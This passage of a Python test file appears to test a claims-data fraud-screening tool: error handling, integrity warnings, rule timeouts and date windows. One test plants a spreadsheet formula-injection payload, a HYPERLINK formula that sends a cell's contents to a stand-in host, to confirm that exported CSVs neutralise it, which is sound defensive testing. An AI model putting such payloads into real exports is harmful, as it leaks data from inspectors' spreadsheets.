    (lists / "gbk.yaml").write_bytes("list_name: 测试\nentries: []\n".encode("gbk"))
    result = run("--data", str(data_folder(tmp_path)), "--out", str(tmp_path / "out"),
                 "--watchlist", str(lists))
    assert result.exit_code == 2 and f"{lists / 'gbk.yaml'}:1:12: not UTF-8 (byte 0xb2): " \
        "save the watch list as UTF-8" in result.output, result.output
    assert not (tmp_path / "out").exists()
    (lists / "gbk.yaml").unlink()
    (lists / "site.YML").unlink()
    result = run("--data", str(data_folder(tmp_path, name="data2")), "--out",
                 str(tmp_path / "out"), "--watchlist", str(lists))
    assert result.exit_code == 2 and f"no watch lists (*.yaml or *.yml) in the folder {lists}" \
        in result.output, result.output


def test_inputs_that_cannot_be_read_are_errors_naming_them(tmp_path):
    data = data_folder(tmp_path)
    (data / "fee_lines.parquet").rename(tmp_path / "moved.parquet")
    (data / "fee_lines").mkdir()
    (data / "fee_lines" / "p1.parquet").symlink_to(tmp_path / "gone.parquet")
    result = CliRunner().invoke(app, ["validate", "--data", str(data), "--out",
                                      str(tmp_path / "out")])
    assert result.exit_code == 2
    assert f"{data / 'fee_lines' / 'p1.parquet'}: a link to" in result.output


def test_a_table_file_that_links_to_nothing_is_an_error_saying_so(tmp_path):
    """Found in review: a dangling fee_lines.parquet link was 'cannot list the folder'."""
    data = data_folder(tmp_path)
    (data / "fee_lines.parquet").unlink()
    (data / "fee_lines.parquet").symlink_to(tmp_path / "gone.parquet")
    result = CliRunner().invoke(app, ["validate", "--data", str(data), "--out",
                                      str(tmp_path / "out")])
    assert result.exit_code == 2
    said = " ".join(result.output.split())
    assert "fee_lines.parquet: a link to" in said and "which does not exist" in said


def test_a_table_named_by_a_link_to_itself_is_an_error_not_ignored(tmp_path):
    """Found in review (session 11): a `persons` link to itself was 'ignored persons: not a
    contract table', and the rules that need persons were skipped."""
    data = data_folder(tmp_path)
    (data / "persons").symlink_to(data / "persons")
    result = CliRunner().invoke(app, ["validate", "--data", str(data), "--out",
                                      str(tmp_path / "out")])
    assert result.exit_code == 2
    assert "persons: a symbolic link that leads back to itself" in result.output


def test_a_rule_test_of_an_unknown_rule_is_an_error():
    result = CliRunner().invoke(app, ["rules", "test", "split_hospitalisation.readmision"])
    assert result.exit_code == 2
    assert "did you mean 'split_hospitalisation.readmission'" in result.output


def test_report_of_a_folder_with_unreadable_files_is_an_error(tmp_path):
    out = tmp_path / "out"
    assert run("--data", str(data_folder(tmp_path)), "--out", str(out)).exit_code == 0
    (out / "suspicions.parquet").write_bytes(b"PAR1 cut short")
    result = CliRunner().invoke(app, ["report", str(out)])
    assert result.exit_code == 2 and "cannot be read as the run's suspicions" in result.output
    (out / "run.json").write_text("[]", encoding="utf-8")
    result = CliRunner().invoke(app, ["report", str(out)])
    assert result.exit_code == 2 and "not a run's manifest" in result.output


def test_report_from_a_hand_edited_manifest_is_an_error_naming_it(tmp_path):
    """Found in review (session 11): `"rules": "x"` in run.json was a traceback."""
    out = tmp_path / "out"
    assert run("--data", str(data_folder(tmp_path)), "--out", str(out)).exit_code == 0
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    before = (out / "report.html").read_bytes()
    (out / "run.json").write_text(json.dumps({**doc, "rules": "x"}), encoding="utf-8")
    result = CliRunner().invoke(app, ["report", str(out)])
    assert result.exit_code == 2, result.output
    assert "run.json: not a run's manifest as `run` writes it" in result.output
    assert (out / "report.html").read_bytes() == before


RUNAWAY = filter_rule("custom.runaway", "EXISTS (SELECT 1 FROM fee_lines AS a JOIN fee_lines "
                      "AS b ON TRUE JOIN fee_lines AS c ON TRUE WHERE a.amount + b.amount "
                      "+ c.amount < -1)", key="line_id")


def test_a_runaway_rule_is_stopped_and_recorded_as_failed(tmp_path):
    """Found in review: a rule cross-joining the fee lines ran for ten minutes and more,
    deaf to SIGTERM. Past --rule-timeout its statement is interrupted; the run goes on."""
    rule = tmp_path / "runaway.yaml"
    rule.write_text(RUNAWAY, encoding="utf-8")
    out = tmp_path / "out"
    data = Path(__file__).resolve().parents[1] / "sample_claims" / "data"
    result = run("--data", str(data), "--out", str(out), "--rules", str(rule),
                 "--only", "custom", "--only", "split_hospitalisation", "--rule-timeout", "1")
    assert result.exit_code == 1, result.output
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    outcomes = {r["id"]: r for r in doc["rules"]}
    assert outcomes["custom.runaway"]["status"] == "failed"
    assert "stopped after 1 s (--rule-timeout)" in outcomes["custom.runaway"]["reason"]
    assert outcomes["custom.runaway"]["seconds"] < 30
    assert outcomes["split_hospitalisation.readmission"]["status"] == "ran"


def test_out_of_memory_before_the_rules_is_an_error_not_a_traceback(tmp_path):
    """Found in session 11: a memory limit too small to create the shared sources ended
    `run` with DuckDB's traceback. Now it is one line naming the option to raise, exit 1,
    and nothing is written."""
    out = tmp_path / "out"
    data = Path(__file__).resolve().parents[1] / "sample_claims" / "data"
    result = run("--data", str(data), "--out", str(out), "--memory-limit", "1MB")
    assert result.exit_code == 1, result.output
    assert "out of memory" in result.output and "raise --memory-limit" in result.output
    assert "Traceback" not in result.output and "nothing was written" in result.output
    assert not out.exists()


def test_the_spill_limit_bounds_the_spill_folder_and_says_which_option_to_raise(tmp_path):
    """--spill-limit bounds DuckDB's spill folder (its default is 90 % of the free disk,
    which a runaway rule on a shared server could fill). A grouping of 5 M keys in 30 MB
    spills; with no room on disk it fails as ``OutOfMemory`` naming the option, and
    without the limit the same query spills and answers."""
    from fraudscreen.engine_duckdb import DuckDBEngine
    from fraudscreen.screen import OutOfMemory

    big = "SELECT count(*) AS n FROM (SELECT i, count(*) FROM range(5000000) t(i) GROUP BY i)"
    limited = DuckDBEngine(memory_limit="30MB", temp_dir=tmp_path / "a", spill_limit="1MB")
    with pytest.raises(OutOfMemory, match=r"^out of memory: .*; the spill folder reached "
                       r"--spill-limit: raise it or --memory-limit$"):
        limited.query(big)
    limited.close()
    free = DuckDBEngine(memory_limit="30MB", temp_dir=tmp_path / "b")
    assert free.query(big).item() == 5_000_000
    free.close()


def test_a_symbolic_link_loop_is_an_error_not_a_traceback(tmp_path):
    """Found in review (session 11): Path.resolve() raises RuntimeError on a loop."""
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    data = data_folder(tmp_path)
    for args in (["--data", str(data), "--out", str(loop)],
                 ["--data", str(loop), "--out", str(tmp_path / "o")]):
        result = run(*args)
        assert result.exit_code == 2, result.output
        assert "a symbolic link that leads back to itself" in result.output
    result = CliRunner().invoke(app, ["nightly", "--inbox", str(data), "--store", str(loop),
                                      "--out", str(tmp_path / "n"), "--new-store"])
    assert result.exit_code == 2 and "leads back to itself" in result.output


def test_the_spill_limit_is_recorded_in_run_json(tmp_path):
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path)), "--out", str(out), "--spill-limit", "5GB")
    assert result.exit_code == 0, result.output
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert doc["options"]["spill_limit"] == "5GB"


def test_a_spill_limit_is_a_size_on_disk(tmp_path):
    result = run("--data", str(tmp_path), "--out", str(tmp_path / "o"), "--spill-limit", "50%")
    assert result.exit_code == 2 and "write a size such as 20GB" in result.output


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_a_stop_interrupts_a_running_rule_and_publishes_nothing(tmp_path, signum):
    """Found in review: Ctrl-C or SIGTERM while a rule's statement ran waited for the
    statement: the run went on until --rule-timeout, then published a run with the rule
    failed (or, without a timeout, never ended)."""
    rule = tmp_path / "runaway.yaml"
    rule.write_text(RUNAWAY, encoding="utf-8")
    out = tmp_path / "out"
    data = Path(__file__).resolve().parents[1] / "sample_claims" / "data"
    proc = subprocess.Popen(
        [sys.executable, "-m", "fraudscreen.cli", "run", "--data", str(data), "--out",
         str(out), "--rules", str(rule), "--only", "custom", "--rule-timeout", "0",
         "--log-format", "json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    for line in proc.stderr:  # the runaway is the only rule: it starts after ingestion
        if '"event": "ingest_done"' in line:
            break
    time.sleep(2)
    began = time.monotonic()
    proc.send_signal(signum)
    try:
        code = proc.wait(timeout=60)
    finally:
        proc.kill()
    assert time.monotonic() - began < 30
    assert code == 130, proc.stderr.read()
    assert not out.exists()


RUNAWAY_SKIP = """\
id: custom.runaway_skip
version: "1"
family: duplicate_charge
title: t
description: d
severity: low
detect:
  kind: aggregate
  source: settlements
  group_by: [institution_id]
  measures: {n: count(*)}
  having: "FALSE"
  skip:
    when: "EXISTS (SELECT 1 FROM fee_lines AS a JOIN fee_lines AS b ON TRUE JOIN fee_lines AS c
      ON TRUE WHERE a.amount + b.amount + c.amount < -1)"
    reason: r
emit:
  institution_id: institution_id
  amount_at_risk: "0"
  message: m
  key: [institution_id]
"""


def test_a_runaway_skip_count_is_stopped_too(tmp_path):
    """Found in review: with no hit, a rule's skip count ran as a statement of its own,
    without the timeout, for ten minutes and more."""
    rule = tmp_path / "runaway.yaml"
    rule.write_text(RUNAWAY_SKIP, encoding="utf-8")
    out = tmp_path / "out"
    data = Path(__file__).resolve().parents[1] / "sample_claims" / "data"
    result = run("--data", str(data), "--out", str(out), "--rules", str(rule),
                 "--only", "custom.runaway_skip", "--rule-timeout", "1")
    assert result.exit_code == 1, result.output
    (outcome,) = json.loads((out / "run.json").read_text(encoding="utf-8"))["rules"]
    assert outcome["status"] == "failed"
    assert "stopped after 1 s (--rule-timeout)" in outcome["reason"]
    assert outcome["seconds"] < 30


def test_a_rule_with_more_hits_than_a_lead_list_holds_fails(tmp_path, monkeypatch):
    """Its hits are not all fetched: a rule flagging millions of rows would fill memory."""
    import fraudscreen.screen as screen_module

    monkeypatch.setattr(screen_module, "MAX_HITS", 3)
    rule = tmp_path / "every.yaml"
    rule.write_text(filter_rule("custom.every_line", "amount > 0", key="line_id"),
                    encoding="utf-8")
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path)), "--out", str(out), "--rules",
                 str(rule), "--only", "custom")
    assert result.exit_code == 1
    (doc,) = json.loads((out / "run.json").read_text(encoding="utf-8"))["rules"]
    assert doc["status"] == "failed" and "more than 3 hits" in doc["reason"]


def test_fee_lines_dated_before_2000_are_counted_and_warned_of(tmp_path):
    """Found in review: one 1900-01-01 charge (a database's default date) silently
    stretched the window back to 1900 and added growth leads over 'last month 0'."""
    lines = [*LINES, dict(LINES[0], line_id="L9", charge_time="1900-01-01 00:00:00")]
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path, lines=lines)), "--out", str(out))
    assert result.exit_code == 0
    assert "1 fee line(s) are charged before 2000" in " ".join(result.output.split())
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert doc["integrity"]["fee_lines_before_2000"] == 1


def test_fee_lines_charged_a_month_outside_every_settlement_are_counted_and_warned_of(
        tmp_path):
    """Found in review: one line mistyped 2014 for 2024 stretched the window ten years back,
    and monthly growth then flagged January over a 'last month' of 0."""
    stays = [{**stay, "settle_time": stay["discharge_time"]} for stay in STAYS]
    at = [("L5", "2023-12-01 08:00:00"), ("L6", "2023-12-01 07:59:59"),  # first admit − 31 d
          ("L7", "2024-03-05 10:00:00"), ("L8", "2024-03-05 10:00:01"),  # last settle + 31 d
          ("L9", "2014-01-10 09:00:00")]
    lines = [*LINES, *(dict(LINES[0], line_id=i, charge_time=t) for i, t in at)]
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path, stays, lines)), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "3 fee line(s) are charged more than 31 days before the first admission or after " \
           "the last settlement" in " ".join(result.output.split())
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert doc["integrity"]["fee_lines_outside_settlements"] == 3


def integrity_of(data: Path, tmp_path: Path) -> tuple[str, dict[str, int]]:
    """What a run of ``data`` said (one line) and its integrity counts in run.json."""
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 0, result.output
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    return " ".join(result.output.split()), doc["integrity"]


def test_genders_outside_the_contracts_codes_are_counted_and_warned_of(tmp_path):
    """Found in review: a person's gender `M` (the contract codes 1 and 2) was kept without
    a word, and the wrong-gender rule passed over that person."""
    data = data_folder(tmp_path)
    table("persons", [dict(person_id="P1", gender="M"), dict(person_id="P2", gender="2"),
                      dict(person_id="P3", gender="0")]).write_parquet(data / "persons.parquet")
    table("catalog", [dict(item_code="X", gender_limit="F"), dict(item_code="Y",
                                                                  gender_limit="1"),
                      dict(item_code="Z")]).write_parquet(data / "catalog.parquet")
    said, counts = integrity_of(data, tmp_path)
    assert "2 person(s) have a gender other than 1 (male) or 2 (female)" in said
    assert "1 catalog item(s) have a gender_limit other than 1 or 2" in said
    assert counts["persons_gender_not_coded"] == 2
    assert counts["catalog_gender_limit_not_coded"] == 1
    assert counts["item_pairs_not_exclusive"] == 0  # the shipped pairs


def test_item_pairs_of_another_relation_are_counted_and_warned_of(tmp_path):
    """Found in review: a site's pairs marked `互斥` instead of `exclusive` paired nothing,
    without a word."""
    data = data_folder(tmp_path)
    table("item_pairs", [dict(item_code_a="A", item_code_b="B", relation="互斥"),
                         dict(item_code_a="C", item_code_b="D", relation="exclusive")]
          ).write_parquet(data / "item_pairs.parquet")
    said, counts = integrity_of(data, tmp_path)
    assert "1 item pair(s) have a relation other than 'exclusive'" in said
    assert counts["item_pairs_not_exclusive"] == 1


def test_fee_categories_and_regions_outside_the_contracts_codes_are_counted_and_warned_of(
        tmp_path):
    """Found in review: a site's own fee category (`001`) or a 4-digit region was kept
    without a word, and the rules that select bed fees or judge pooling areas passed over
    those rows or misjudged them."""
    stays = [{**STAYS[0], "insured_region": "3509", "visit_region": "350902"},
             {**STAYS[1], "insured_region": "350902", "visit_region": "350902"},
             {**STAYS[2], "insured_region": "350902", "visit_region": "福州市"}]
    lines = [{**LINES[0], "fee_category": "001"}, {**LINES[1], "fee_category": "14"},
             {**LINES[2], "fee_category": "01"}, {**LINES[3], "fee_category": "15"}]
    said, counts = integrity_of(data_folder(tmp_path, stays, lines), tmp_path)
    assert "2 fee line(s) have a fee_category outside 01–14" in said
    assert "2 settlement(s) have an insured_region or visit_region that is not 6 digits" in said
    assert counts["fee_lines_category_not_coded"] == 2
    assert counts["settlements_region_not_6_digits"] == 2


def test_medical_type_labels_and_unlinked_negative_settlements_are_counted_and_warned_of(
        tmp_path):
    """Found in review: medical types exported as labels (普通住院) silenced six rules, and
    reversals shown only by a negative amount were screened as claims, without a word."""
    stays = [{**STAYS[0], "medical_type": "普通住院"}, {**STAYS[1], "total_amount": 900},
             {**STAYS[2], "total_amount": -500, "fund_amount": -500}]
    said, counts = integrity_of(data_folder(tmp_path, stays), tmp_path)
    assert "1 settlement(s) have a medical_type that is not a numeric code" in said
    assert "1 settlement(s) have a negative total_amount but name no reversed settlement" \
        in said
    assert counts["settlements_medical_type_not_coded"] == 1
    assert counts["negative_settlements_not_linked"] == 1
    # found in an inspector's review: 基金支付1000元 in a message, ¥900 at risk, no word why
    assert "1 settlement(s) have a fund_amount above their total_amount" in said
    assert counts["settlements_fund_above_total"] == 1


def test_a_linked_reversal_is_not_an_unlinked_negative_settlement(tmp_path):
    reversal = {**STAYS[2], "settlement_id": "R", "total_amount": -500, "fund_amount": -500,
                "reversed_settlement_id": "C"}
    said, counts = integrity_of(data_folder(tmp_path, [*STAYS, reversal]), tmp_path)
    assert counts["negative_settlements_not_linked"] == 0
    assert counts["removed_by_reversal"] == 2


def test_contract_codes_give_no_code_warning(tmp_path):
    said, counts = integrity_of(data_folder(tmp_path), tmp_path)
    assert "warning" not in said
    assert not any(counts.values()), counts
    assert {"settlements_medical_type_not_coded", "negative_settlements_not_linked",
            "fee_lines_category_not_coded", "settlements_region_not_6_digits"} <= set(counts)


def test_csv_cells_from_the_data_never_run_as_excel_formulas(tmp_path):
    """Found in review: an id or a quarantined cell starting with '=' went into the CSVs
    as it came, and Excel runs such a cell as a formula when an inspector opens them."""
    hostile = '=HYPERLINK("http://x.example/?"&A1,"详情")'
    stays = [{**s, "institution_id": hostile} for s in STAYS]
    data = tmp_path / "data"
    data.mkdir()
    table("settlements", stays).write_parquet(data / "settlements.parquet")
    lines = table("fee_lines", LINES).select(pl.all().cast(pl.String))
    pl.concat([lines, lines.tail(1).with_columns(line_id=pl.lit("L9"),
                                                 charge_time=pl.lit("@SUM(1+1)"))]
              ).write_csv(data / "fee_lines.csv")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    assert pl.read_parquet(out / "suspicions.parquet")["institution_id"].unique().to_list() == [
        hostile]  # the data as it is, for tools
    for name, column, shown in (("suspicions.csv", "institution_id", "'" + hostile),
                                ("leads.csv", "lead_id", "'" + hostile),
                                ("quarantine.csv", "value", "'@SUM(1+1)")):
        frame = pl.read_csv(out / name, infer_schema=False)
        assert shown in frame[column].to_list(), name
        for col in frame.columns:
            assert not frame[col].drop_nulls().str.contains(r"^[=+\-@]").any(), (name, col)


def _watched_billing(tmp_path: Path, bills: list[tuple[str, int]],
                     at: str = "H1") -> Path:
    """A data folder where hospital ``at`` (a bill may name another as its third item)
    bills a watch-listed drug once on each day given."""
    stays = [dict(settlement_id=f"S{i}", person_id="A", institution_id=(*bill, at)[2],
                  medical_type="11", admit_time=f"2024-{bill[0]} 09:00:00")
             for i, bill in enumerate(bills)]
    lines = [dict(line_id=f"L{i}", settlement_id=f"S{i}", item_code="ATV",
                  item_name="阿托伐他汀钙片", fee_category="09",
                  charge_time=f"2024-{bill[0]} 09:00:00", quantity=1, unit_price=bill[1],
                  amount=bill[1]) for i, bill in enumerate(bills)]
    return data_folder(tmp_path, stays, lines)


@pytest.mark.parametrize("window_from", [
    "2024-02-15",  # March against the whole of February (¥30,001), not its ¥1 after the 15th
    "2024-02-11",  # the same: only the ¥1 line of February is in the window
    "2024-02-01",  # February is the data's first month; March as above
    "2024-03-01",  # March against February, read whole from before the window
    None,          # the data's first month, whole here
])
def test_growth_never_compares_against_a_month_a_mid_month_from_cut_short(
        tmp_path, window_from):
    """Found in review (an oracle written from the spec): with --from 2024-02-15,
    February's ¥1 in the window passed for its billing, and March's ¥45,000 was flagged
    as growth over a month that billed ¥30,001 (45,000 is under 1.5 × 30,001). H2's
    March, exactly 1.5 × its whole February and ¥10,000 more, is growth in every window
    that holds March's first day."""
    data = _watched_billing(tmp_path, [("02-10", 30000), ("02-20", 1), ("03-10", 45000),
                                       ("02-10", 20000, "H2"), ("03-10", 30000, "H2")])
    window = ["--from", window_from, "--to", "2024-03-31"] if window_from else []
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--only", "key_item_growth",
               *window).exit_code == 0
    assert pl.read_parquet(out / "suspicions.parquet").select(
        "institution_id", pl.col("period_start").cast(pl.String), "amount_at_risk").rows() == [
        ("H2", "2024-03-01", Decimal("10000.00"))]


@pytest.mark.parametrize("window", [[], ["--to", "2024-03-31"], ["--to", "2024-02-29"]])
def test_a_to_alone_keeps_the_datas_first_month_however_it_starts(tmp_path, window):
    """Found in review: with --to alone the data's first month (from 15 January) was
    taken for one a --from had cut short, and February's growth was missed."""
    data = _watched_billing(tmp_path, [("01-15", 20000), ("02-10", 30000), ("03-10", 10)])
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--only", "key_item_growth",
               *window).exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    assert found.select(pl.col("period_start").cast(pl.String), "amount_at_risk").rows() == [
        ("2024-02-01", Decimal("10000.00"))]


@pytest.mark.parametrize("windows", [
    [None],
    [("2024-02-01", "2024-02-29"), ("2024-03-01", "2024-03-31"), ("2024-04-01", "2024-04-30")],
    [("2024-01-01", "2024-01-31"), ("2024-02-01", "2024-03-31"), ("2024-04-01", "2024-04-30")],
    [("2024-01-15", "2024-02-14"), ("2024-02-15", "2024-03-14"), ("2024-03-15", "2024-04-30")],
    [("2024-01-10", "2024-03-01"), ("2024-03-02", "2024-04-30")],
])
def test_windows_one_after_another_judge_each_month_once_as_one_run_does(tmp_path, windows):
    """Found in review (data the project had never seen): month by month, growth was
    never found, since each window's first month was taken for the data's first. The
    spec counts from "the earliest fee line in the data": a window judges the months
    whose first day it holds, against whole months read across its edges."""
    data = _watched_billing(tmp_path, [("01-10", 1), ("02-10", 20000), ("03-10", 30000),
                                       ("04-10", 100)])
    found = []
    for i, window in enumerate(windows):
        out = tmp_path / f"out{i}"
        bounds = ["--from", window[0], "--to", window[1]] if window else []
        assert run("--data", str(data), "--out", str(out), "--only", "key_item_growth",
                   *bounds).exit_code == 0
        found += pl.read_parquet(out / "suspicions.parquet").select(
            pl.col("period_start").cast(pl.String), "amount_at_risk").rows()
    # February against January's ¥1; March exactly 1.5 × February and ¥10,000 more
    assert sorted(found) == [("2024-02-01", Decimal("19999.00")),
                             ("2024-03-01", Decimal("10000.00"))]


@pytest.mark.parametrize(("window", "flagged"), [
    (("2024-03-01", "2024-03-31"), [("B", ["A"])]),  # A is before the window: context
    (("2024-02-01", "2024-02-29"), []),              # B is after it: judged in March
    (("2024-03-03", "2024-03-31"), []),              # B itself before the window
    (None, [("B", ["A"])]),
])
def test_a_readmission_across_the_windows_start_is_found(tmp_path, window, flagged):
    """Found in review: the stay before a readmission was cut off by --from, so a site
    screening month by month never saw a readmission across a month's end."""
    stays = [
        dict(settlement_id="A", person_id="P", institution_id="H1", medical_type="21",
             admit_time="2024-02-20 10:00:00", discharge_time="2024-02-28 10:00:00",
             diagnosis_code="J18.900", fund_amount=100),
        dict(settlement_id="B", person_id="P", institution_id="H1", medical_type="21",
             admit_time="2024-03-02 10:00:00", discharge_time="2024-03-06 10:00:00",
             diagnosis_code="J18.900", fund_amount=800),
    ]
    lines = [dict(line_id=f"L{s}", settlement_id=s, item_code="X",
                  charge_time=f"2024-{day} 11:00:00", quantity=1, unit_price=1, amount=1)
             for s, day in (("A", "02-20"), ("B", "03-02"))]
    data = data_folder(tmp_path, stays, lines)
    args = ["--from", window[0], "--to", window[1]] if window else []
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--only", "split_hospitalisation",
               *args).exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    assert found.select("settlement_id", "related_settlement_ids").rows() == flagged


def _purchases(days: list[str]) -> tuple[list[dict], list[dict]]:
    """A person's pharmacy purchases (medical type 41) of one drug, one a day."""
    stays = [dict(settlement_id=f"D{i}", person_id="P", institution_id="P1", medical_type="41",
                  admit_time=f"2024-{day} 09:00:00", fund_amount=10)
             for i, day in enumerate(days)]
    lines = [dict(line_id=f"L{i}", settlement_id=f"D{i}", item_code="X",
                  charge_time=f"2024-{day} 09:00:00", quantity=1, unit_price=10, amount=10)
             for i, day in enumerate(days)]
    return stays, lines


@pytest.mark.parametrize(("rule", "stays", "lines", "window", "flagged"), [
    # hoarding: three purchases before --from and one in the window are a run of four
    ("pharmacy_card_skimming.hoarding", *_purchases(["02-20", "02-25", "02-28", "03-02"]),
     ("2024-03-01", "2024-03-31"), [("D3", ["D0", "D1", "D2"])]),
    # ... judged in the window of its last purchase, not in the one before it
    ("pharmacy_card_skimming.hoarding", *_purchases(["02-20", "02-25", "02-28", "03-02"]),
     ("2024-02-01", "2024-02-29"), []),
    # impossible travel: the earlier settlement is the evening before --from
    ("pharmacy_card_skimming.impossible_travel",
     [dict(settlement_id="E", person_id="P", institution_id="H1", visit_region="350902",
           admit_time="2024-02-29 23:00:00", fund_amount=10),
      dict(settlement_id="F", person_id="P", institution_id="H2", visit_region="110101",
           admit_time="2024-03-01 01:00:00", fund_amount=20)],
     [dict(line_id="L1", settlement_id="F", item_code="X", charge_time="2024-03-01 01:00:00")],
     ("2024-03-01", "2024-03-31"), [("F", ["E"])]),
    # elsewhere during the stay: the visit elsewhere is after --to, the stay in the window
    ("bed_holding.elsewhere_during_stay",
     [dict(settlement_id="S", person_id="P", institution_id="H1", medical_type="21",
           admit_time="2024-02-25 09:00:00", discharge_time="2024-03-05 09:00:00",
           fund_amount=100),
      dict(settlement_id="V", person_id="P", institution_id="H2", medical_type="11",
           admit_time="2024-03-02 09:00:00", fund_amount=10)],
     [dict(line_id="L1", settlement_id="S", item_code="X", charge_time="2024-02-25 10:00:00")],
     ("2024-02-01", "2024-02-29"), [("S", ["V"])]),
])
def test_window_and_correlate_rules_see_the_rows_around_the_window(
        tmp_path, rule, stays, lines, window, flagged):
    """Found in review: with --from/--to these rules saw only the window's rows, so a
    hoarding run, an impossible journey or a visit elsewhere across the window's edge
    was never flagged, whichever month was screened."""
    data = data_folder(tmp_path, stays, lines)
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--only", rule, "--from", window[0],
               "--to", window[1]).exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    assert found.select("settlement_id", "related_settlement_ids").rows() == flagged


HOARDING_BY_CATEGORY = """
id: site.drug_hoarding
version: "1"
family: pharmacy_card_skimming
title: t
description: d
severity: low
detect:
  kind: window
  source: {source}
  lookups:
    category: {{source: fee_lines, on: [settlement_id, item_code], value: max(fee_category)}}
  where: category = '09'
  partition_by: [person_id, item_code]
  time: {time}
  span: {{days: 30}}
  having: count(DISTINCT settlement_id) >= 4
  anchor: last
emit:
  amount_at_risk: "0"
  message: "{{settlement_id}}"
  key: [person_id, item_code, settlement_id]
"""


@pytest.mark.parametrize(("source", "time"), [("settlement_items", "admit_time"),
                                              ("fee_lines", "charge_time")])
def test_a_window_rules_lookups_and_fee_lines_reach_around_the_window_too(
        tmp_path, source, time):
    """Found in review: the rows before --from came with no lookup value (the lookup read
    the window's fee lines), so a `where` on it dropped them again; and a window over
    fee lines saw only the window's."""
    stays, lines = _purchases(["02-20", "02-25", "02-28", "03-02"])
    data = data_folder(tmp_path, stays, lines)
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "r.yaml").write_text(HOARDING_BY_CATEGORY.format(source=source, time=time),
                                  encoding="utf-8")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--rules", str(rules), "--only",
               "site.drug_hoarding", "--from", "2024-03-01", "--to", "2024-03-31"
               ).exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    assert found.select("settlement_id", "related_settlement_ids").rows() == [
        ("D3", ["D0", "D1", "D2"])]


def test_a_site_familys_title_names_it_in_the_leads_the_workbook_and_the_report(tmp_path):
    """Found in an analyst's review: a new family showed as its English id beside
    分解住院 and 重复收费 in leads.csv, leads.xlsx and report.html."""
    import openpyxl

    stays, lines = _purchases(["03-01", "03-05", "03-09", "03-12"])
    data = data_folder(tmp_path, stays, lines)
    rules = tmp_path / "rules"
    rules.mkdir()
    text = HOARDING_BY_CATEGORY.format(source="settlement_items", time="admit_time")
    (rules / "r.yaml").write_text(text.replace(
        "family: pharmacy_card_skimming", "family: site_hoarding\nfamily_title: 囤药倒卖"),
        encoding="utf-8")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--rules", str(rules)).exit_code == 0
    manifest = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert {r["id"]: r["family_title"] for r in manifest["rules"]}["site.drug_hoarding"] == \
        "囤药倒卖"
    person = pl.read_csv(out / "leads.csv").filter(pl.col("lead_id") == "P")
    assert "囤药倒卖" in person["families"].item()
    assert "囤药倒卖" in openpyxl.load_workbook(out / "leads.xlsx").sheetnames
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "囤药倒卖" in page and ">site_hoarding" not in page  # ids only in anchors

    # A rule of the family with no title of its own, run alone (--only), shows it too;
    # and `report` over a run.json from before family_titles reads the rules' titles.
    (rules / "r2.yaml").write_text(text.replace("site.drug_hoarding", "site.drug_hoarding2")
                                   .replace("family: pharmacy_card_skimming",
                                            "family: site_hoarding"), encoding="utf-8")
    assert run("--data", str(data), "--out", str(out), "--rules", str(rules), "--only",
               "site.drug_hoarding2").exit_code == 0
    assert "囤药倒卖" in pl.read_csv(out / "leads.csv")["families"].to_list()
    assert run("--data", str(data), "--out", str(out), "--rules", str(rules)).exit_code == 0
    older = json.loads((out / "run.json").read_text(encoding="utf-8"))
    del older["family_titles"]
    (out / "run.json").write_text(json.dumps(older, ensure_ascii=False), encoding="utf-8")
    (out / "leads.csv").unlink()
    assert CliRunner().invoke(app, ["report", str(out)]).exit_code == 0
    assert "囤药倒卖" in (out / "leads.csv").read_text(encoding="utf-8-sig")


def test_a_window_rule_over_a_source_with_no_context_looks_up_the_window_only(tmp_path):
    """Found in review: a window rule over item_days (the window's rows only) counted, in
    its fee_lines lookup, a line charged before --from, where a filter rule over the same
    rows did not."""
    stays = [dict(settlement_id="S", person_id="P", institution_id="H1", medical_type="21",
                  admit_time="2024-02-26 09:00:00", discharge_time="2024-03-05 09:00:00")]
    lines = [dict(line_id=f"L{i}", settlement_id="S", item_code="X",
                  charge_time=f"2024-{day} 09:00:00") for i, day in enumerate(["02-27", "03-02"])]
    data = data_folder(tmp_path, stays, lines)
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "r.yaml").write_text(HOARDING_BY_CATEGORY.format(source="item_days",
                                                              time="charge_date")
                                  .replace("max(fee_category)", "count(*)")
                                  .replace("category = '09'", "category >= 2")
                                  .replace("count(DISTINCT settlement_id) >= 4", "count(*) >= 1"),
                                  encoding="utf-8")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--rules", str(rules), "--only",
               "site.drug_hoarding", "--from", "2024-03-01", "--to", "2024-03-31"
               ).exit_code == 0
    assert pl.read_parquet(out / "suspicions.parquet").is_empty()
    out = tmp_path / "all"  # without the window both lines are the settlement's
    assert run("--data", str(data), "--out", str(out), "--rules", str(rules), "--only",
               "site.drug_hoarding").exit_code == 0
    assert pl.read_parquet(out / "suspicions.parquet").height == 1


